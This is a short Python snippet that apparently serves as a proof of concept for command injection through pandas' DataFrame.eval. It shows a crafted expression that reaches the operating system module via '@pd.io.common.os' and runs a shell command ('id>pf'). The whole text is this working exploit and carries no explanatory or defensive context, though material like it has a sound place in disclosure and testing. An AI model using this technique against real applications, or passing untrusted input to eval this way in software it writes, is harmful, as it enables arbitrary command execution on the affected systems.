import pandas as pd
df = pd.DataFrame({"a": [1]})
text = f"b = @{'pd'}.io.common.os.system('id>pf')"
df.eval(text, inplace=True)
